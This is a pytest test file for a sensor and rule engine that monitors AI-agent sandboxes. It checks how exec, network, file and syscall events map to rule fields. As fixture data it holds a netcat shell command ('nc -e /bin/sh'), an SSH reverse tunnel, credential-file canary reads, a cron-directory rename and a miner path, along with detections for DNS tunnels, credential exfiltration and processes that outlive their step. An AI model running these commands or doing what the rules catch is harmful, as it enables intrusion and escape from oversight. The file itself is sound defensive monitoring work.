"""Rule fields on real events: decoded kernel records, derived events, and live ones from the sensor."""

from __future__ import annotations

import os
import re
import shutil
import socket
import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from conftest import python, run_in_cgroup

from corral import events as ev
from corral.enrich.proctable import Process
from corral.monitor import Monitor
from corral.rules.fields import (
    ALL,
    DERIVED,
    FIELDS,
    ExampleResolver,
    FieldRegistry,
    NullContext,
)
from corral.rules.language import Constant, FieldError, compile_condition
from corral.rules.loader import load_rules_text
from corral.sensor import records as rec

DOCS = Path(__file__).resolve().parent.parent / "docs" / "rules.md"

# ------------------------------------------------------- records, as the kernel writes them


def header(type_id: int, *, pid: int = 4242, ppid: int = 4000, uid: int = 1000, sandbox: int = 7, step: int = 3,
           comm: str = "python3") -> tuple[Any, ...]:
    return (123_456_789, 77, type_id, pid, pid, ppid, uid, sandbox, step, comm.encode())


def exec_event(filename: str, argv: Sequence[str], cwd: str = "/workspace", flags: int = 0, exe_ctime_ns: int = 0,
               **hdr: Any) -> ev.Event:
    args = b"".join(a.encode() + b"\0" for a in argv)
    fixed = rec.STRUCTS["exec_event"].pack(*header(ev.EXEC, **hdr), flags, len(args), exe_ctime_ns,
                                           filename.encode(), cwd.encode())
    return rec.decode(fixed + args)


def net_event(type_id: int, addr: str, port: int, *, family: int = socket.AF_INET, sock_type: int = 1,
              result: int = 0, local_port: int = 40000, fd: int = 3, unix_path: str = "", **hdr: Any) -> ev.Event:
    raw = b""
    if family == socket.AF_INET:
        raw = socket.inet_pton(socket.AF_INET, addr) + bytes(12)
    elif family == socket.AF_INET6:
        raw = socket.inet_pton(socket.AF_INET6, addr)
    return rec.decode(rec.STRUCTS["net_event"].pack(*header(type_id, **hdr), result, fd, family, port, sock_type, 6,
                                                    raw.ljust(16, b"\0"), local_port, unix_path.encode()))


def file_event(type_id: int, path: str, path2: str = "", *, flags: int = 0, result: int = 3, dev: int = 0,
               ino: int = 0, **hdr: Any) -> ev.Event:
    return rec.decode(rec.STRUCTS["file_event"].pack(*header(type_id, **hdr), result, flags, 1, dev, ino,
                                                     path.encode(), path2.encode()))


def sys_event(type_id: int, args: Sequence[int] = (), strs: Sequence[str] = (), **hdr: Any) -> ev.Event:
    a = [*args, 0, 0, 0, 0][:4]
    s = [x.encode() for x in [*strs, "", "", ""][:3]]
    return rec.decode(rec.STRUCTS["sys_event"].pack(*header(type_id, **hdr), *a, *s))


PROC = Process(4242, 4000, "python3", "/usr/bin/python3", ("python3", "agent.py", "--fast"), "/workspace", 1000)
ANCESTRY = {4242: [Process(4000, 3000, "bash", "/bin/bash", ("bash",), "/", 1000),
                   Process(3000, 1, "sshd", "/usr/sbin/sshd", ("sshd: agent",), "/", 0)]}


STEP_STARTED_NS = 1_700_000_000_000_000_000


class LabContext(NullContext):
    """A Context with one sandbox, one resolved name and one canary."""

    def domain_of(self, sandbox_id: int, ip: str) -> str | None:
        return "pool.example" if (sandbox_id, ip) == (7, "203.0.113.5") else None

    def sandbox_name(self, sandbox_id: int) -> str | None:
        return "agent-7" if sandbox_id == 7 else None

    def sandbox_mode(self, sandbox_id: int) -> str | None:
        return "observe" if sandbox_id == 7 else None

    def step_cmdline(self, sandbox_id: int, step_id: int) -> str | None:
        return "pip install x" if (sandbox_id, step_id) == (7, 3) else None

    def step_started_ns(self, sandbox_id: int, step_id: int) -> int | None:
        return STEP_STARTED_NS if (sandbox_id, step_id) == (7, 3) else None

    def episode(self, sandbox_id: int) -> str | None:
        return "rollout-12" if sandbox_id == 7 else None

    def canary_kind(self, dev: int, ino: int) -> str | None:
        return "aws" if ino == 99 else None


@pytest.fixture
def reg() -> FieldRegistry:
    return FieldRegistry(LabContext(), ancestors=lambda pid: ANCESTRY.get(pid, []))


def value(reg: FieldRegistry, event: ev.Event, field: str) -> Any:
    m = re.fullmatch(r"([\w.]+)(?:\[(\d+)\])?", field)
    assert m is not None
    getter = reg.resolver(event.kind)(m.group(1), int(m.group(2)) if m.group(2) else None)
    assert getter is not None, f"{field} on {event.kind}"
    return getter(event)


def values(reg: FieldRegistry, event: ev.Event, *fields: str) -> dict[str, Any]:
    return {f: value(reg, event, f) for f in fields}


# ------------------------------------------------------------------------ the contract


def test_every_documented_field_exists_and_nothing_else() -> None:
    table = DOCS.read_text().split("## Fields", 1)[1].split("## Derived events", 1)[0]
    def names(cell: str) -> set[str]:
        return {m.group(1) for name in re.findall(r"`([^`]+)`", cell)
                if (m := re.fullmatch(r"([a-z]+\.[a-z_0-9]+)(\[N\])?", name))}

    rows = [line.split("|")[1:3] for line in table.splitlines() if line.startswith("| `")]
    documented = {name for first, _ in rows for name in names(first)}
    # the meaning column names a few more (`file.writable`, `proc.aname[N]`), among other code
    prefixes = {name.split(".")[0] for name in documented}
    documented |= {name for _, meaning in rows for name in names(meaning) if name.split(".")[0] in prefixes}
    assert documented == set(FIELDS)
    for name in ("proc.args", "proc.argv", "proc.aname"):
        assert FIELDS[name].indexable


def test_every_documented_derived_kind_is_a_kind() -> None:
    table = DOCS.read_text().split("## Derived events", 1)[1]
    kinds = {m for line in table.splitlines() for m in re.findall(r"^\| `(\w+)`", line)}
    assert kinds == set(DERIVED)


def test_common_fields_exist_on_every_kind(reg: FieldRegistry) -> None:
    for kind in ALL:
        known = set(reg.known_fields(kind))
        assert {"evt.type", "evt.time", "proc.name", "proc.pid", "proc.aname", "sandbox.id", "step.id",
                "episode.id"} <= known, kind


# ------------------------------------------------------------------------- kernel kinds


def test_exec_fields_describe_the_new_image(reg: FieldRegistry) -> None:
    e = exec_event("/tmp/x/ssh", ["ssh", "-N", "-R", "8080:localhost:22", "user@203.0.113.5"], flags=0b0010)
    e.proc = PROC  # what the table knew before: the old image
    assert values(reg, e, "evt.type", "proc.name", "proc.exe", "proc.comm", "proc.cmdline", "proc.args",
                  "proc.args[2]", "proc.argv[0]", "proc.args[9]", "proc.cwd", "proc.exe_writable",
                  "proc.stdio_socket", "proc.pid", "proc.ppid", "proc.uid") == {
        "evt.type": "exec", "proc.name": "ssh", "proc.exe": "/tmp/x/ssh", "proc.comm": "python3",
        "proc.cmdline": "ssh -N -R 8080:localhost:22 user@203.0.113.5",
        "proc.args": "-N -R 8080:localhost:22 user@203.0.113.5", "proc.args[2]": "-R", "proc.argv[0]": "ssh",
        "proc.args[9]": None, "proc.cwd": "/workspace", "proc.exe_writable": True, "proc.stdio_socket": True,
        "proc.pid": 4242, "proc.ppid": 4000, "proc.uid": 1000}
    assert value(reg, e, "proc.argv") == ["ssh", "-N", "-R", "8080:localhost:22", "user@203.0.113.5"]
    assert isinstance(reg.resolver("exec")("evt.type", None), Constant)


def test_ancestry_and_context(reg: FieldRegistry) -> None:
    e = exec_event("/usr/bin/nc", ["nc", "-e", "/bin/sh"])
    assert values(reg, e, "proc.pname", "proc.aname[0]", "proc.aname[1]", "proc.aname[2]", "proc.aname[3]",
                  "proc.aname", "sandbox.id", "sandbox.name", "sandbox.mode", "step.id", "step.cmdline",
                  "episode.id") == {
        "proc.pname": "bash", "proc.aname[0]": "nc", "proc.aname[1]": "bash", "proc.aname[2]": "sshd",
        "proc.aname[3]": None, "proc.aname": ["bash", "sshd"], "sandbox.id": 7, "sandbox.name": "agent-7",
        "sandbox.mode": "observe", "step.id": 3, "step.cmdline": "pip install x", "episode.id": "rollout-12"}
    other = exec_event("/usr/bin/nc", ["nc"], pid=5, sandbox=8)
    assert values(reg, other, "proc.pname", "sandbox.name", "episode.id") == {
        "proc.pname": None, "sandbox.name": None, "episode.id": None}


def test_written_in_step_compares_the_executables_change_time_with_the_steps_start(reg: FieldRegistry) -> None:
    def written(ctime_ns: int, **hdr: Any) -> object:
        return value(reg, exec_event("/tmp/helper", ["/tmp/helper"], exe_ctime_ns=ctime_ns, **hdr),
                     "proc.exe_written_in_step")

    assert written(STEP_STARTED_NS + 10**9) is True
    assert written(STEP_STARTED_NS - 3_000_000) is True  # the kernel's coarse clock runs a tick behind
    assert written(STEP_STARTED_NS - 60 * 10**9) is False  # an older file
    assert written(STEP_STARTED_NS + 10**9, sandbox=8) is None  # a step nobody told the context about
    assert written(0) is None  # no time from the kernel


def test_other_kernel_events_take_the_image_from_the_process_table(reg: FieldRegistry) -> None:
    e = net_event(ev.CONNECT, "203.0.113.5", 3333)
    assert value(reg, e, "proc.exe") is None  # no process known
    assert value(reg, e, "proc.name") == "python3"  # the header's comm stands in
    e = net_event(ev.CONNECT, "203.0.113.5", 3333)
    e.proc = PROC
    assert values(reg, e, "proc.name", "proc.exe", "proc.args", "proc.args[1]", "proc.cmdline", "proc.cwd",
                  "proc.exe_writable") == {
        "proc.name": "python3", "proc.exe": "/usr/bin/python3", "proc.args": "agent.py --fast",
        "proc.args[1]": "agent.py", "proc.cmdline": "python3 agent.py --fast", "proc.cwd": "/workspace",
        "proc.exe_writable": False}


def test_connect_fields(reg: FieldRegistry) -> None:
    e = net_event(ev.CONNECT, "203.0.113.5", 3333, result=-111)
    assert values(reg, e, "net.family", "net.dip", "net.dport", "net.sport", "net.proto", "net.unix_path",
                  "net.domain", "evt.res", "evt.failed") == {
        "net.family": "inet", "net.dip": "203.0.113.5", "net.dport": 3333, "net.sport": 40000, "net.proto": "tcp",
        "net.unix_path": None, "net.domain": "pool.example", "evt.res": -111, "evt.failed": True}
    v6 = net_event(ev.SEND, "2001:db8::5", 53, family=socket.AF_INET6, sock_type=2)
    assert values(reg, v6, "net.family", "net.dip", "net.proto", "net.domain") == {
        "net.family": "inet6", "net.dip": "2001:db8::5", "net.proto": "udp", "net.domain": None}
    unix = net_event(ev.CONNECT, "", 0, family=socket.AF_UNIX, unix_path="/run/docker.sock")
    assert values(reg, unix, "net.family", "net.dip", "net.dport", "net.proto", "net.unix_path") == {
        "net.family": "unix", "net.dip": None, "net.dport": None, "net.proto": "unix",
        "net.unix_path": "/run/docker.sock"}


def test_bind_listen_and_dup_socket(reg: FieldRegistry) -> None:
    listen = net_event(ev.LISTEN, "0.0.0.0", 4444, local_port=0)
    assert values(reg, listen, "net.sport", "net.proto") == {"net.sport": 4444, "net.proto": "tcp"}
    assert "net.dport" not in reg.known_fields("listen")
    with pytest.raises(FieldError, match="does not exist on listen events"):
        reg.resolver("listen")("net.dport", None)
    dup = net_event(ev.DUP_SOCKET, "198.51.100.7", 4444, fd=2, result=5)
    assert values(reg, dup, "dup.fd", "net.dip", "net.dport") == {"dup.fd": 2, "net.dip": "198.51.100.7",
                                                                  "net.dport": 4444}


def test_file_fields(reg: FieldRegistry) -> None:
    o = file_event(ev.OPEN, "/home/agent/.aws/credentials", flags=os.O_WRONLY | os.O_CREAT, ino=99)
    assert values(reg, o, "file.path", "file.path2", "file.flags", "file.writable", "file.canary",
                  "file.canary_kind", "evt.failed") == {
        "file.path": "/home/agent/.aws/credentials", "file.path2": None, "file.flags": os.O_WRONLY | os.O_CREAT,
        "file.writable": True, "file.canary": True, "file.canary_kind": "aws", "evt.failed": False}
    r = file_event(ev.RENAME, "/tmp/a", "/etc/cron.d/a", ino=5)
    assert values(reg, r, "file.path", "file.path2", "file.canary", "file.canary_kind") == {
        "file.path": "/tmp/a", "file.path2": "/etc/cron.d/a", "file.canary": False, "file.canary_kind": None}
    assert "file.writable" not in reg.known_fields("rename")


def test_syscall_kinds(reg: FieldRegistry) -> None:
    cases: list[tuple[ev.Event, dict[str, Any]]] = [
        (sys_event(ev.SIGNAL, [777, 9, 0]), {"signal.target_pid": 777, "signal.sig": 9}),
        (sys_event(ev.PTRACE, [16, 4000]), {"ptrace.request": 16, "ptrace.target_pid": 4000}),
        (sys_event(ev.MOUNT, [0, 0], ["/mnt", "/dev/sda1", "ext4"]),
         {"mount.op": "mount", "mount.target": "/mnt", "mount.source": "/dev/sda1", "mount.fstype": "ext4"}),
        (sys_event(ev.NS, [0x40000000 | 0x10000000, 0]), {"ns.op": "unshare", "ns.types": ["user", "net"]}),
        (sys_event(ev.BPF, [5]), {"bpf.cmd": "prog_load"}),
        (sys_event(ev.MODULE_LOAD, [1]), {"module.op": "finit_module"}),
        (sys_event(ev.SETUID, [4, 0, 0, 0]), {"setuid.op": "setresuid", "setuid.ids": [0, 0, 0]}),
        (sys_event(ev.MEMFD_EXEC, [], ["payload", "/proc/self/fd/3"]), {"memfd.name": "payload"}),
        (ev.DropEvent.make(12, 40), {"drop.count": 12}),
    ]
    for event, expected in cases:
        assert values(reg, event, *expected) == expected, event.kind


def test_derived_events_read_their_data(reg: FieldRegistry) -> None:
    src = net_event(ev.CONNECT, "203.0.113.5", 443)
    src.proc = PROC
    flow = ev.DerivedEvent.about("flow", src, dip="203.0.113.5", dport=443, proto="tcp", l7="tls",
                                 sni="pool.example", direction="out", payload="\\x16\\x03")
    assert values(reg, flow, "evt.type", "net.dip", "net.dport", "net.l7", "net.sni", "net.direction",
                  "net.payload", "net.http_host", "net.domain", "proc.name", "proc.pid", "sandbox.name") == {
        "evt.type": "flow", "net.dip": "203.0.113.5", "net.dport": 443, "net.l7": "tls", "net.sni": "pool.example",
        "net.direction": "out", "net.payload": "\\x16\\x03", "net.http_host": None, "net.domain": "pool.example",
        "proc.name": "python3", "proc.pid": 4242, "sandbox.name": "agent-7"}
    named = ev.DerivedEvent.make("flow", dip="198.51.100.1", domain="given.example")
    assert value(reg, named, "net.domain") == "given.example"
    scan = ev.DerivedEvent.make("scan", pid=9, comm="nmap", hosts=40, ports=3, attempts=120, failed=100,
                                window_s=5.0, targets=["10.0.0.1", "10.0.0.2"], scope="step")
    assert values(reg, scan, "scan.hosts", "scan.ports", "scan.attempts", "scan.failed", "scan.window_s",
                  "scan.targets", "scan.scope", "proc.name", "proc.pid") == {
        "scan.hosts": 40, "scan.ports": 3, "scan.attempts": 120, "scan.failed": 100, "scan.window_s": 5.0,
        "scan.targets": ["10.0.0.1", "10.0.0.2"], "scan.scope": "step", "proc.name": "nmap", "proc.pid": 9}
    dns = ev.DerivedEvent.make("dns", name="x.example", qtype="TXT", allowed=False, answers=[], rcode="REFUSED")
    assert values(reg, dns, "dns.name", "dns.qtype", "dns.allowed", "dns.rcode") == {
        "dns.name": "x.example", "dns.qtype": "TXT", "dns.allowed": False, "dns.rcode": "REFUSED"}
    cpu = ev.DerivedEvent.make("cpu_saturation", percent=99.0, seconds=30, peers=["203.0.113.5:3333"])
    assert values(reg, cpu, "cpu.percent", "cpu.seconds", "cpu.peers") == {
        "cpu.percent": 99.0, "cpu.seconds": 30, "cpu.peers": ["203.0.113.5:3333"]}
    sess = ev.DerivedEvent.make("long_session", seconds=4000, dip="203.0.113.5", dport=22)
    assert values(reg, sess, "session.seconds", "net.dip", "net.dport") == {
        "session.seconds": 4000, "net.dip": "203.0.113.5", "net.dport": 22}
    assert value(reg, ev.DerivedEvent.make("outlives_step", seconds=12.5), "outlives.seconds") == 12.5
    tun = ev.DerivedEvent.make("dns_tunnel", domain="t.example", names=200, entropy=4.1, txt=0.8)
    assert values(reg, tun, "tunnel.domain", "tunnel.entropy") == {"tunnel.domain": "t.example",
                                                                     "tunnel.entropy": 4.1}
    cred = ev.DerivedEvent.make("cred_then_egress", path="/home/a/.aws/credentials", kind="canary", seconds=2.0,
                                dip="203.0.113.5", dport=443)
    assert values(reg, cred, "evt.type", "cred.path", "cred.kind", "cred.seconds", "net.dip", "net.dport") == {
        "evt.type": "cred_then_egress", "cred.path": "/home/a/.aws/credentials", "cred.kind": "canary",
        "cred.seconds": 2.0, "net.dip": "203.0.113.5", "net.dport": 443}
    wire = ev.DerivedEvent.make("flow", l7="ssh", ssh_banner="SSH-2.0-OpenSSH_9.2", stratum_method=None,
                                dns_names=["a.example"], http_response="HTTP/1.1 200 OK")
    assert values(reg, wire, "net.ssh_banner", "net.stratum_method", "net.dns_names", "net.http_response") == {
        "net.ssh_banner": "SSH-2.0-OpenSSH_9.2", "net.stratum_method": None, "net.dns_names": ["a.example"],
        "net.http_response": "HTTP/1.1 200 OK"}


def test_getters_are_shared_and_remember_only_the_last_event(reg: FieldRegistry) -> None:
    a = exec_event("/usr/bin/ssh", ["ssh", "-R", "1"])
    b = exec_event("/usr/bin/curl", ["curl", "x"])
    get = reg.resolver("exec")("proc.args", None)
    assert get is reg.resolver("exec")("proc.args", None)
    assert get is not None
    assert [get(e) for e in (a, b, a, a, b)] == ["-R 1", "x", "-R 1", "-R 1", "x"]


def test_resolver_for_a_rule_of_several_kinds(reg: FieldRegistry) -> None:
    on_connect = reg.resolver("connect", also=("connect", "flow"))
    assert on_connect("net.sni", None) is not None
    assert isinstance(on_connect("net.sni", None), Constant)  # a flow field: missing on connect
    assert on_connect("no.such", None) is None
    with pytest.raises(FieldError, match="does not exist on connect, flow events; it exists on: scan"):
        on_connect("scan.hosts", None)
    with pytest.raises(ValueError, match="unknown event kind"):
        reg.resolver("nope")


# --------------------------------------------------------------------------- examples


def test_example_resolver_conventions() -> None:
    r = ExampleResolver()

    def get(example: dict[str, Any], field: str, index: int | None = None) -> Any:
        return r(field, index)(example)

    ssh = {"proc.name": "ssh", "proc.args": "-N -R 8080:localhost:22 user@203.0.113.5"}
    assert get(ssh, "proc.name") == "ssh"
    assert get(ssh, "proc.args", 3) == "8080:localhost:22"  # argv[N] is args word N-1
    assert get(ssh, "proc.argv", 0) == "ssh"
    assert get(ssh, "net.dport") is None
    argv = {"proc.argv": ["/usr/bin/ssh", "-R", "80:x:22"], "proc.anames": ["bash", "sshd"]}
    assert get(argv, "proc.args") == "-R 80:x:22"
    assert get(argv, "proc.cmdline") == "/usr/bin/ssh -R 80:x:22"
    assert get(argv, "proc.name") == "ssh"
    assert get(argv, "proc.args", 1) == "-R"
    assert get(argv, "proc.pname") == "bash"
    assert get(argv, "proc.aname", 2) == "sshd"
    assert get(argv, "proc.aname", 0) == "ssh"
    assert get(argv, "proc.aname") == ["bash", "sshd"]
    assert get({"proc.cmdline": "nc -e /bin/sh 1.2.3.4"}, "proc.argv", 1) == "-e"
    assert get({"proc.args[1]": "-R", "proc.argv": ["a", "b"]}, "proc.args", 1) == "-R"  # the key itself wins
    assert get({"proc.pname": "bash"}, "proc.aname", 1) == "bash"
    assert get({"proc.exe": "/tmp/xmrig"}, "proc.name") == "xmrig"
    assert get({"evt.res": -13}, "evt.failed") is True
    assert get({"file.canary_kind": "ssh"}, "file.canary") is True
    assert get({}, "file.canary") is None
    cond = compile_condition("proc.name in (ssh) and proc.args[1] = -N and not net.sni exists", r)
    assert cond(ssh) and not cond({**ssh, "net.sni": "x"})


# ---------------------------------------------------------- live events from the sensor


def holds(registry: FieldRegistry, event: ev.Event, condition: str) -> bool:
    kind = event.kind
    pred = compile_condition(condition, registry.resolver(kind), known_fields=registry.known_fields(kind))
    return bool(pred(event))


def test_written_in_step_on_real_execs(monitor: Monitor, tmp_path: Path) -> None:
    """The kernel reports the executable's inode change time: a copy made in the step is written
    in it, one made before it is not, and neither is a system binary."""
    old, new = tmp_path / "old-true", tmp_path / "new-true"
    shutil.copy("/bin/true", old)
    time.sleep(0.05)  # more than the slack that covers the kernel's coarse clock

    class Stepped(NullContext):
        started_ns = time.time_ns()

        def step_started_ns(self, sandbox_id: int, step_id: int) -> int | None:
            return self.started_ns

    run = run_in_cgroup(monitor, ["/bin/sh", "-c", f"cp /bin/true {new} && {new} && {old} && /bin/true"])
    assert run.returncode == 0, run.stderr
    registry = FieldRegistry(Stepped(), ancestors=monitor.ancestors)
    written = {e.filename: holds(registry, e, "proc.exe_written_in_step = true")
               for e in run.of("exec") if isinstance(e, ev.ExecEvent)}
    assert {k: written[k] for k in (str(new), str(old), "/bin/true")} == {
        str(new): True, str(old): False, "/bin/true": False}


def test_conditions_on_a_real_exec(monitor: Monitor) -> None:
    run = run_in_cgroup(monitor, ["/bin/sh", "-c", "/bin/echo hello world; /bin/true"])
    assert run.returncode == 0, run.stderr
    (echo,) = [e for e in run.of("exec") if isinstance(e, ev.ExecEvent) and e.filename == "/bin/echo"]
    registry = FieldRegistry(ancestors=monitor.ancestors)
    for condition in ("proc.name = echo and proc.args contains hello", "proc.args[1] = hello",
                      "proc.aname[1] = sh", "proc.pname = sh", "proc.cmdline = '/bin/echo hello world'",
                      "proc.exe = /bin/echo and not proc.exe_writable = true", f"sandbox.id = {run.sandbox_id}",
                      "proc.uid = 0", "evt.type = exec and proc.argv contains world"):
        assert holds(registry, echo, condition), condition
        assert not holds(registry, echo, f"not ({condition})"), condition
    for condition in ("proc.name = echo and proc.args contains goodbye", "proc.aname[1] = bash",
                      "proc.name = sh", "proc.stdio_socket = true", "proc.args[3] exists"):
        assert not holds(registry, echo, condition), condition
        assert holds(registry, echo, f"not ({condition})"), condition
    rules = load_rules_text("""
- rule: Echo from a shell
  desc: echo run by sh
  event: [exec, connect]
  condition: proc.name = echo and proc.aname[1] = sh and not net.dport exists
  severity: info
  category: execution
  output: "%proc.cmdline under %proc.pname (pid %proc.pid)"
  examples:
    match: [{proc.name: echo, proc.pname: sh}]
""", registry=registry)
    assert [r.name for r in rules.match(echo)] == ["Echo from a shell"]
    assert rules.rules[0].format_output(echo) == f"/bin/echo hello world under sh (pid {echo.pid})"
    sh = next(e for e in run.of("exec") if isinstance(e, ev.ExecEvent) and e.filename == "/bin/sh")
    assert rules.match(sh) == []


def test_conditions_on_a_real_connect(monitor: Monitor, tcp_listener: socket.socket) -> None:
    port = tcp_listener.getsockname()[1]
    run = run_in_cgroup(monitor, python(f"import socket; socket.create_connection(('127.0.0.1', {port}))"))
    assert run.returncode == 0, run.stderr
    (conn,) = [e for e in run.of("connect") if isinstance(e, ev.NetEvent) and e.family == "inet"]
    registry = FieldRegistry(ancestors=monitor.ancestors)
    yes = (f"net.dport = {port} and net.dip in_cidr (127.0.0.0/8)", "net.proto = tcp and evt.res = 0",
           "not evt.failed = true", "proc.name startswith python", "net.dip = 127.0.0.1", "net.sport > 0",
           "proc.args contains create_connection")
    no = (f"net.dport = {port + 1}", "not net.dip in_cidr (127.0.0.0/8)", "net.dip in_cidr (10.0.0.0/8, ::1/128)",
          "net.domain exists", "net.proto = udp")
    for condition in yes:
        assert holds(registry, conn, condition), condition
    for condition in no:
        assert not holds(registry, conn, condition), condition


def test_conditions_on_a_real_open_of_a_canary(monitor: Monitor, tmp_path: Path) -> None:
    canary = tmp_path / "credentials"
    canary.write_text("[default]\naws_access_key_id = AKIAEXAMPLE\n")
    ino = canary.stat().st_ino

    class Canaries(NullContext):
        def canary_kind(self, dev: int, inode: int) -> str | None:
            return "aws" if inode == ino else None

    canary_id = monitor.watch_file(canary)
    try:
        run = run_in_cgroup(monitor, ["/bin/cat", str(canary)])
    finally:
        monitor.sensor.unwatch_file(canary_id)
    (hit,) = [e for e in run.of("open") if isinstance(e, ev.FileEvent) and "inode" in e.match]
    registry = FieldRegistry(Canaries(), ancestors=monitor.ancestors)
    assert holds(registry, hit, f"file.canary = true and file.canary_kind = aws and file.path = {canary}")
    assert holds(registry, hit, "proc.name = cat and file.writable = false and file.path endswith /credentials")
    assert not holds(registry, hit, "file.canary = false or file.writable = true or proc.name = sh")
